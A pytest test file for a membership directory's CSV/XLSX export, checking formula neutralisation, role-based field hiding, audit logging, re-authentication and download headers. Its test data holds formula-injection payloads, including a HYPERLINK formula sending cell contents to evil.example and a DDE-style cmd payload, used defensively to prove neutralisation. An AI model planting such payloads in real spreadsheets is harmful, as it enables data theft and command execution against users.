"""Export of the member list: the file holds what the reader's role may see, formulas are
neutralised, every export is audited, and it takes a fresh sign-in and a POST."""

from __future__ import annotations

import csv
import io
import time
from contextlib import contextmanager
from itertools import count

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from coalition import spreadsheets
from coalition.audit.models import AuditEntry
from coalition.extensions import db
from coalition.members import exporter, importing
from coalition.members import operations as ops
from coalition.members.models import FocusArea, Member, MemberKind, MemberStatus, OrgType
from coalition.members.queries import MemberFilters
from tests.conftest import post, sign_in_as

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2",
    "@x",
    "\tx",
    "\rx",
]


_seq = count(1)


def make_member(name="Centre for Digital Rights", **values):
    base = {
        "kind": MemberKind.ORGANISATION,
        "name": name,
        "org_type": OrgType.NGO,
        "country": "KE",
        "website": f"https://site{next(_seq)}.example.org",
        "notes": "Internal: met them in Nairobi",
        "consent_public": True,
    }
    contacts = values.pop(
        "contacts",
        [
            {"name": f"{name} contact", "email": f"contact{next(_seq)}@example.org"},
            {"name": "Second Person", "email": f"second{next(_seq)}@example.org"},
        ],
    )
    status = values.pop("status", MemberStatus.ACTIVE)
    base.update(values)
    member = ops.create_member(
        actor=None,
        values=base,
        focus_areas=[FocusArea.HATE_SPEECH, FocusArea.DISINFORMATION],
        work_countries=["UG", "TZ"],
        contacts=contacts,
        status=status,
    )
    db.session.commit()
    return member


@pytest.fixture
def convenor(make_user):
    return make_user("convenor", two_factor=True)


@pytest.fixture
def steering(make_user):
    return make_user("steering", two_factor=True)


def download(client, fmt: str, query: str = ""):
    """Press a download button: a POST with the session's CSRF token."""
    path = f"/members/export.{fmt}" + (f"?{query}" if query else "")
    return post(client, path, {}, token_from="/")


def csv_rows(response) -> list[dict[str, str]]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def xlsx_rows(response) -> list[dict]:
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def exports() -> list[AuditEntry]:
    return list(db.session.scalars(sa.select(AuditEntry).filter_by(action="members.exported")))


@contextmanager
def counting_queries():
    found = []

    def count(*_args):
        found.append(1)

    sa.event.listen(db.engine, "before_cursor_execute", count)
    try:
        yield found
    finally:
        sa.event.remove(db.engine, "before_cursor_execute", count)


# -- Formulas -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE_NAMES)
def test_neutralise_prefixes_a_quote(value):
    assert spreadsheets.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Centre", "", "1+1", "a=b", "'quoted", None, 5])
def test_neutralise_leaves_other_values(value):
    assert spreadsheets.neutralise(value) == value


def test_csv_export_neutralises_formulas(client, login, convenor):
    for name in HOSTILE_NAMES:
        make_member(name=name, notes="=cmd|' /C calc'!A0", website="@evil.example")
    login(convenor)
    response = download(client, "csv")
    assert response.status_code == 200
    rows = csv_rows(response)
    assert sorted(r["Name"] for r in rows) == sorted("'" + n for n in HOSTILE_NAMES)
    assert {r["Internal notes"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert {r["Website"] for r in rows} == {"'@evil.example"}
    # No cell of the file starts a formula.
    for r in rows:
        for value in r.values():
            assert not value.startswith(spreadsheets.FORMULA_STARTS), value


def test_xlsx_export_neutralises_formulas(client, login, convenor):
    for name in HOSTILE_NAMES:
        make_member(name=name)
    login(convenor)
    response = download(client, "xlsx")
    assert response.status_code == 200
    rows = xlsx_rows(response)
    names = {r["Name"].value: r["Name"] for r in rows}
    # Some XML parsers read a carriage return back as a line feed (lxml keeps it);
    # the quote is there all the same.
    read_back = {name.replace("\r", "\n") for name in names}
    assert read_back == {"'" + n.replace("\r", "\n") for n in HOSTILE_NAMES}
    for cell in names.values():
        assert cell.data_type == "s", cell.value  # text, never a formula ("f")


# -- What each role gets -----------------------------------------------------------------------


def test_convenor_gets_every_field(client, login, convenor):
    safe = make_member("Safe Organisation")
    risky = make_member("Risky Organisation", at_risk=True)
    login(convenor)
    rows = {r["Name"]: r for r in csv_rows(download(client, "csv"))}
    assert set(rows) == {"Safe Organisation", "Risky Organisation"}
    assert rows["Risky Organisation"]["At risk"] == "yes"
    assert rows["Safe Organisation"]["At risk"] == "no"
    assert rows["Risky Organisation"]["Internal notes"] == "Internal: met them in Nairobi"
    assert rows["Risky Organisation"]["Contact email"] == risky.contacts[0].email
    assert rows["Risky Organisation"]["Other contacts"] == (
        f"Second Person <{risky.contacts[1].email}>"
    )
    safe_row = rows["Safe Organisation"]
    assert safe_row["Number"] == str(safe.id)
    assert safe_row["Country"] == "Kenya"
    assert safe_row["Country code"] == "KE"
    assert safe_row["Region"] == "Sub-Saharan Africa"
    assert safe_row["Type"] == "NGO"
    assert safe_row["Status"] == "Active"
    assert safe_row["Focus areas"] == "Disinformation; Hate speech and incitement"
    assert safe_row["Countries of work"] == "TZ; UG"
    assert safe_row["Public listing"] == "yes"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_steering_gets_no_notes_no_risk_flag_and_no_contacts_of_members_at_risk(
    client, steering, fmt
):
    safe = make_member("Safe Organisation")
    make_member("Risky Organisation", at_risk=True)
    sign_in_as(client, steering)
    response = download(client, fmt)
    assert response.status_code == 200
    if fmt == "csv":
        rows = {r["Name"]: r for r in csv_rows(response)}
        value = lambda row, key: row[key]  # noqa: E731
    else:
        rows = {r["Name"].value: r for r in xlsx_rows(response)}
        value = lambda row, key: row[key].value or ""  # noqa: E731
    header = set(next(iter(rows.values())))
    assert "Internal notes" not in header
    assert "At risk" not in header
    body = response.get_data()
    if fmt == "csv":
        assert b"Internal: met them" not in body
    risky = rows["Risky Organisation"]
    for key in ("Contact name", "Contact email", "Contact role", "Other contacts"):
        assert value(risky, key) == "", key
    assert value(rows["Safe Organisation"], "Contact email") == safe.contacts[0].email
    [entry] = exports()
    assert entry.details["fields"] == "steering"


def test_the_export_page_says_what_the_file_holds(client, steering, convenor):
    make_member("Safe Organisation")
    sign_in_as(client, steering)
    page = client.get("/members/export?status=active&country=KE")
    body = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "1 member matches." in body
    assert "Steering seat until, Last confirmed</p>" in body  # no notes, no risk flag
    assert "neither are the contact details of members at risk" in body
    assert 'action="/members/export.csv?' in body and "status=active" in body
    sign_in_as(client, convenor)
    body = client.get("/members/export").get_data(as_text=True)
    assert "Last confirmed, At risk, Internal notes</p>" in body
    assert exports() == []  # looking at the page exports nothing


# -- Filters, audit, freshness, headers --------------------------------------------------------


def test_export_follows_the_directory_filters_and_is_audited(client, login, convenor):
    make_member("Kenyan Active")
    make_member("Ghanaian Active", country="GH")
    make_member("Kenyan Applicant", status=MemberStatus.APPLIED)
    login(convenor)
    response = download(client, "csv", "status=active&country=KE&sort=name")
    assert [r["Name"] for r in csv_rows(response)] == ["Kenyan Active"]
    [entry] = exports()
    assert entry.actor_id == convenor.id
    assert entry.details == {
        "format": "csv",
        "filters": {"status": "active", "country": "KE"},
        "rows": 1,
        "fields": "staff",
        "via": "web",
    }
    assert entry.ip_address == "127.0.0.1"


# The whole Content-Type header of each download, parameters included.
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_download_content_type_names_its_charset_once(client, login, convenor, fmt):
    make_member()
    login(convenor)
    response = download(client, fmt)
    assert response.status_code == 200
    assert response.headers.getlist("Content-Type") == [CONTENT_TYPES[fmt]]


def test_download_headers(client, login, convenor):
    make_member()
    login(convenor)
    response = download(client, "xlsx")
    assert response.mimetype == exporter.FORMATS["xlsx"]
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and ".xlsx" in disposition
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert response.headers["Cache-Control"] == "no-store"
    csv_response = download(client, "csv")
    assert csv_response.get_data().startswith(b"\xef\xbb\xbf")  # Excel reads the accents


def test_a_get_of_the_download_exports_nothing(client, login, convenor):
    make_member()
    login(convenor)
    response = client.get("/members/export.csv?status=active")
    assert response.status_code == 302
    assert response.location.endswith("/members/export?status=active")
    assert exports() == []


def test_an_old_sign_in_must_give_the_password_again(client, login, convenor):
    make_member()
    login(convenor)
    token_page = client.get("/members/export")
    assert token_page.status_code == 200
    with client.session_transaction() as session:
        session["auth_at"] = int(time.time()) - 3600
    stale = download(client, "csv")
    assert stale.status_code == 302
    assert "/reauthenticate" in stale.location
    assert exports() == []
    page = client.get("/members/export?country=KE")
    assert page.status_code == 302
    assert "/reauthenticate" in page.location


@pytest.mark.parametrize("roles", [("member_contact",), ("applicant",), ("reviewer",)])
def test_others_may_not_export(client, make_user, roles):
    make_member()
    sign_in_as(client, make_user(*roles))
    assert client.get("/members/export").status_code == 403
    assert post(client, "/members/export.csv", {}, token_from="/").status_code == 403
    assert exports() == []


def test_export_query_count_does_not_grow_with_members(app):
    def queries_for(n: int) -> int:
        for i in range(n):
            make_member(f"Member {n}-{i}")
        with app.test_request_context(), counting_queries() as found:
            exporter.export_members(MemberFilters(), staff=True, fmt="csv", reader=None)
        db.session.rollback()
        return len(found)

    assert queries_for(3) == queries_for(30)


def test_an_export_imports_back_unchanged(app):
    for i in range(5):
        make_member(f"Round Trip {i}", country=["KE", "CI", "CD", "SZ", "XK"][i])
    make_member("Solo Expert", kind=MemberKind.EXPERT, org_type=None, contacts=[])
    with app.test_request_context():
        data, count = exporter.export_members(MemberFilters(), staff=True, fmt="xlsx", reader=None)
    assert count == 6
    report = importing.analyse(importing.read_table(data, "members.xlsx"))
    assert [(r["name"], r["action"], r["errors"]) for r in report["rows"]] == [
        (name, "unchanged", [])
        for name in sorted(["Round Trip 0", "Round Trip 1", "Round Trip 2", "Round Trip 3",
                            "Round Trip 4", "Solo Expert"])
    ]  # fmt: skip


# -- The command line ----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_export_writes_every_field(runner, tmp_path, fmt):
    make_member("Risky Organisation", at_risk=True)
    path = tmp_path / f"register.{fmt}"
    result = runner.invoke(args=["members", "export", str(path)])
    assert result.exit_code == 0, result.output
    assert f"Exported 1 members to {path}." in result.output
    assert path.stat().st_mode & 0o077 == 0  # personal data: the owner's only
    data = path.read_bytes()
    if fmt == "csv":
        [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        assert (row["At risk"], row["Internal notes"]) == ("yes", "Internal: met them in Nairobi")
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        assert "Internal notes" in [c.value for c in sheet[1]]
    [entry] = exports()
    assert (entry.actor_id, entry.details["via"], entry.details["rows"]) == (None, "cli", 1)


def test_cli_export_refuses_an_unknown_format(runner, tmp_path):
    result = runner.invoke(args=["members", "export", str(tmp_path / "register.pdf")])
    assert result.exit_code == 2
    assert ".csv or .xlsx" in result.output
    assert exports() == []


def test_member_named_in_a_member_query(client, login, convenor):
    """The search of the directory narrows the export too."""
    make_member("Findable Organisation")
    make_member("Other Organisation")
    login(convenor)
    rows = csv_rows(download(client, "csv", "q=findable"))
    assert [r["Name"] for r in rows] == ["Findable Organisation"]
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Member)) == 2


@pytest.mark.parametrize("language", ["en", "fr", "ar", "es", "pt"])
@pytest.mark.parametrize("field_names", [False, True])
def test_an_export_in_each_language_imports_back(app, language, field_names):
    """Headings, kinds, types, focus areas, countries and yes/no in the reader's language
    (or the machine names) read back: a French export imports into the register."""
    make_member("Réseau Ivoirien", country="CI", kind=MemberKind.ORGANISATION)
    make_member("Solo Expert", kind=MemberKind.EXPERT, org_type=None, contacts=[], country="SN")
    headers = {"Accept-Language": language}
    # An app context of its own: Flask-Babel keeps the locale in ``g``.
    with app.app_context(), app.test_request_context(headers=headers):
        data, _count = exporter.export_members(
            MemberFilters(), staff=True, fmt="csv", reader=None, field_names=field_names
        )
        header = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        expected = [c.key if field_names else str(c.label) for c in exporter.COLUMNS]
        assert header == expected
        report = importing.analyse(importing.read_table(data, "members.csv"))
    assert [(r["name"], r["action"], r["errors"]) for r in report["rows"]] == [
        ("Réseau Ivoirien", "unchanged", []),
        ("Solo Expert", "unchanged", []),
    ]


def test_the_iso_code_column_gives_the_country_when_the_name_column_also_does(app):
    """An export holds "Pays" (names) and "Code pays": the codes are read, exactly."""
    text = "Nom,Pays,Code pays\nRéseau Congolais,Congo-Kinshasa,CD\n"
    with app.test_request_context():
        report = importing.analyse(importing.read_table(text.encode(), "members.csv"))
    [row] = report["rows"]
    assert (row["errors"], row["country"]) == ([], "CD")
    assert report["file"]["columns"]["country"] == "Code pays"
    assert report["file"]["ignored"] == ["Pays"]
    assert not [n for n in report["file"]["column_notes"] if n["field"] == "country"]
